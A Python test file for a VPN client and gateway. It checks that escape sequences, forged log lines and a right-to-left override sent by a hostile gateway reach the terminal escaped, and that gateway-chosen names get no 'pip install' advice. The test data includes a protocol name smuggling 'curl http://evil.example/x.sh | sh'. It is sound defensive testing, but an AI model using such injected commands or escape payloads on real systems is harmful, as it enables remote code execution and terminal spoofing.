"""Text a gateway chooses reaches the user's terminal escaped, and names it chooses get no
install advice (issue 12, point 10).

The attacker is a gateway (any holder of the group PSK can pose as one): it puts escape
sequences in its Unity banner, its XAUTH challenge text (the prompt) and its reject message,
and announces an extra protocol whose name is a shell command. Everything runs for real: a
:class:`Gateway` and a :class:`Client` over UDP on loopback (as :mod:`tunvpn.testing`), the
client printing its human progress lines.
"""

from __future__ import annotations

import asyncio
import dataclasses
import io
import logging
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

from tunvpn import cli
from tunvpn.client.daemon import Client, ClientOptions, Progress
from tunvpn.gateway.daemon import AddressPool, Gateway, GatewayOptions, SimpleRule
from tunvpn.ike.config import PskTable
from tunvpn.ike.policies import ExtraProtocol
from tunvpn.plugins import CredentialRequest, GatewayContext, PluginError, PluginHost, Verdict, hookimpl
from tunvpn.testing import CLIENT, DEFAULT_POLICIES, GATEWAY, PSK, free_port_pair, loopback_available
from tunvpn.untrusted import SafeFormatter, for_terminal, quoted

pytestmark = pytest.mark.skipif(not loopback_available(), reason="needs 127.0.0.2 on loopback")

EVIL = "\x1b]0;pwned\x07\x1b[2J"
"""OSC 0 (set the window title to 'pwned'), then CSI 2J (clear the screen)."""
EVIL_SHOWN = "\\x1b]0;pwned\\x07\\x1b[2J"


@dataclasses.dataclass
class Seen:
    code: int
    output: str
    prompts: list[str]
    message: str


class EvilLogin:
    """The gateway's login plugin: a challenge whose text is the prompt, then accept or reject."""

    def __init__(self, *, reject: bool) -> None:
        self.reject = reject

    @hookimpl
    def tunvpn_verify_credentials(self, request: CredentialRequest, context: GatewayContext) -> Verdict:
        if request.round == 1:
            return Verdict.challenge(f"Token for carol{EVIL}", fields=("answer",))
        if self.reject:
            return Verdict.reject(f"denied{EVIL}\nforged second line")
        return Verdict.accept()


def connect(
    *,
    banner: str | None = None,
    plugins: Sequence[object] = (),
    protocols: Sequence[ExtraProtocol] = (),
) -> Seen:
    prompts: list[str] = []

    def ask(prompt: str) -> str:
        prompts.append(prompt)
        return "c-pass" if len(prompts) == 1 else "314159"

    async def scenario() -> tuple[int, str, str]:
        ike, natt = free_port_pair()
        gateway = Gateway(
            GatewayOptions(
                listen=GATEWAY,
                psks=PskTable({"*": PSK}),
                ike_port=ike,
                natt_port=natt,
                require_xauth=True,
                pool=AddressPool.parse("10.79.0.10-10.79.0.50"),
                rules=tuple(SimpleRule(p) for p in DEFAULT_POLICIES),
                banner=banner,
                protocols=tuple(protocols),
                plugin_objects=tuple(plugins),
            )
        )
        ready = asyncio.Event()
        server = asyncio.ensure_future(gateway.run(ready=ready.set, handle_signals=False))
        await asyncio.wait_for(ready.wait(), 5)
        out = io.StringIO()
        options = ClientOptions(
            gateway=GATEWAY,
            psks=PskTable({"*": PSK}),
            gateway_port=ike,
            gateway_natt_port=natt,
            ike_port=ike,
            natt_port=natt,
            user="carol",
            timeout=20,
            exit_after_established=True,
        )
        options = dataclasses.replace(options, password_prompt=True)
        client = Client(options, CLIENT, progress=Progress(out=out), ask_password=ask)
        try:
            code = await asyncio.wait_for(client.run(handle_signals=False), 25)
        finally:
            gateway.stop()
            await asyncio.wait_for(server, 20)
        return code, out.getvalue(), client.message

    code, output, message = asyncio.run(scenario())
    return Seen(code, output, prompts, message)


def assert_no_control_characters(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text, text


def test_a_banner_with_escape_sequences_reaches_the_terminal_escaped() -> None:
    seen = connect(banner=f"Authorized use only{EVIL}\n\tsecond line", plugins=[EvilLogin(reject=False)])
    assert seen.code == 0, seen.output
    assert_no_control_characters(seen.output)
    # the banner keeps its newline and tab; the next line is indented under the first, so it
    # cannot pose as a progress line of its own
    assert f"[banner] Authorized use only{EVIL_SHOWN}\n         \tsecond line\n" in seen.output
    # the XAUTH challenge text: shown as "gateway says", and as the prompt (the terminal's)
    assert f"gateway says: Token for carol{EVIL_SHOWN}" in seen.output
    assert seen.prompts[1] == f"Token for carol{EVIL_SHOWN} [the answer to the challenge]: "
    assert all("\x1b" not in p for p in seen.prompts)


def test_a_reject_message_with_escape_sequences_and_a_forged_line_is_escaped() -> None:
    seen = connect(plugins=[EvilLogin(reject=True)])
    assert seen.code == 1
    assert_no_control_characters(seen.output)
    assert_no_control_characters(seen.message)  # what `tunvpn connect` prints last, on stderr
    assert f"denied{EVIL_SHOWN}\\x0aforged second line" in seen.message
    assert "\nforged second line" not in seen.output  # no line of the gateway's making


def test_a_protocol_name_chosen_by_the_gateway_gets_no_pip_install_advice() -> None:
    name = "x && curl http://evil.example/x.sh | sh #"
    seen = connect(
        plugins=[EvilLogin(reject=False)],
        protocols=[ExtraProtocol(name, (("exchange", "l2tp"),))],
    )
    assert seen.code == 1
    assert "pip install" not in seen.output and "pip install" not in seen.message
    assert f"the gateway requires {quoted(name)}" in seen.message
    assert "not supported" in seen.message


def test_our_own_plugins_get_install_advice() -> None:
    seen = connect(
        plugins=[EvilLogin(reject=False)], protocols=[ExtraProtocol("l2tp", (("exchange", "l2tp"),))]
    )
    assert seen.code == 1
    assert "install the tunvpn-l2tp plugin (pip install tunvpn-l2tp)" in seen.message


def test_a_plugin_name_that_is_not_ours_gets_no_pip_advice_either() -> None:
    with pytest.raises(PluginError) as info:
        PluginHost(["no-such-plugin\x1b[2J"])
    text = str(info.value)
    assert "pip install" not in text and "\x1b" not in text and "no-such-plugin\\x1b[2J" in text
    # one of ours, not installed under that name in this test: the real distribution is named
    with pytest.raises(PluginError, match=r"pip install tunvpn-radius"):
        from tunvpn.plugins import host as plugins

        original = plugins.OWN_PLUGINS
        plugins.OWN_PLUGINS = {**original, "radius-x": "tunvpn-radius"}
        try:
            PluginHost(["radius-x"])
        finally:
            plugins.OWN_PLUGINS = original


def test_the_plugins_command_suggests_no_pip_install_for_a_misspelt_plugin(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`radus` (a typo of radius) could be a look-alike package: `tunvpn plugins -c` says it is
    missing without telling anyone to pip install it."""
    psk = tmp_path / "gw.psk"
    psk.write_text("a-long-random-group-secret-0123456789\n")
    psk.chmod(0o600)
    config = tmp_path / "gateway.toml"
    config.write_text(
        '[gateway]\nlisten = "192.0.2.1"\npsk_file = "gw.psk"\nplugins = ["radus"]\n\n'
        '[network]\npool = "10.79.0.10-10.79.0.20"\n\n[[policy]]\nname = "intranet"\nlocal = "10.78.0.0/24"\n'
    )
    assert cli.main(["plugins", "-c", str(config)]) == 1
    out = capsys.readouterr().out
    assert "radus" in out and "NOT INSTALLED (not one of tunvpn's own)" in out and "pip install" not in out


# --------------------------------------------------------------------------- the escaping itself


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (EVIL, EVIL_SHOWN),
        ("a\rb", "a\\x0db"),  # CR would overwrite the line
        ("\x9b2J", "\\x9b2J"),  # C1 CSI, one byte
        ("abc\u202egnp.exe", "abc\\u202egnp.exe"),  # right-to-left override
        ("line\u2028two", "line\\u2028two"),
        ("a\x00b\x7f", "a\\x00b\\x7f"),
        ("Grüße, 東京 ok", "Grüße, 東京 ok"),
    ],
)
def test_for_terminal_escapes_every_control_character(text: str, shown: str) -> None:
    assert for_terminal(text) == shown
    assert for_terminal(for_terminal(text)) == shown  # idempotent: escaping twice is harmless


def test_banners_keep_newlines_and_tabs_only() -> None:
    assert for_terminal("a\n\tb\r\nc\rd", keep_lines=True) == "a\n\tb\nc\\x0dd"
    assert for_terminal("a\n\tb") == "a\\x0a\\x09b"


def test_log_lines_escape_a_peers_text() -> None:
    formatter = SafeFormatter("%(levelname)s %(message)s")
    record = logging.LogRecord(
        "x", logging.WARNING, __file__, 1, "user %s refused", (f"carol{EVIL}\nINFO forged",), None
    )
    assert formatter.format(record) == f"WARNING user carol{EVIL_SHOWN}\\x0aINFO forged refused"


def test_the_command_line_logs_through_the_safe_formatter() -> None:
    """`tunvpn` sets its logging up this way (in a fresh interpreter: no test harness handlers)."""
    program = (
        "import logging; from tunvpn import cli; cli._setup_logging(0, False, logging.INFO); "
        f"logging.getLogger('tunvpn.gateway.daemon').warning('XAUTH user %s refused', {('carol' + EVIL)!r})"
    )
    result = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert_no_control_characters(result.stderr)
    assert f"XAUTH user carol{EVIL_SHOWN} refused" in result.stderr
